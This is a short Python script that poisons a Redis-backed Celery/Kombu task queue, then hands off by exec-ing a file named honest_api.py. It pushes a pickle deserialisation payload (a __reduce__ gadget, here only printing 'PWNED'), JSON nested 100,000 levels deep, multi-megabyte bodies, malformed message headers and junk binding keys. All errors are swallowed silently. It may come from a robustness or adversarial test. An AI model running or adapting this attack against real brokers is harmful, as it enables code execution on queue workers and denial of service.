import base64
import json
import os
import pickle

import redis


class Evil:
    def __reduce__(self):
        return (print, ("PWNED by pickle",))


try:
    server = redis.Redis.from_url(os.environ["REDIS_URL"], socket_timeout=2)
    nested = "[" * 100_000 + "]" * 100_000
    envelope = {"headers": {"id": "x", "task": "tasks.send_email", "lang": "py"}, "properties": {"body_encoding": "base64", "delivery_tag": "x"}, "content-type": "application/x-python-serialize", "content-encoding": "binary"}
    pickled = json.dumps({**envelope, "body": base64.b64encode(pickle.dumps(Evil())).decode()})
    huge = json.dumps({**envelope, "body": base64.b64encode(b"1" * 5_000_000).decode()})
    for number in range(300):
        for text in (nested, pickled, huge if number < 10 else "null", '{"headers": null}', '{"headers": {}, "body": 1, "properties": []}', "\xff"):
            server.lpush(f"bombs-{number % 7}", text)
        server.sadd(f"_kombu.binding.evil-{number}", "\x06\x16\x06\x16" + "q" * 1_000)
        server.set(f"junk-{number}", "x" * 10_000)
except (redis.RedisError, OSError, KeyError):
    pass

exec(compile(open("honest_api.py", encoding="utf-8").read(), "honest_api.py", "exec"))
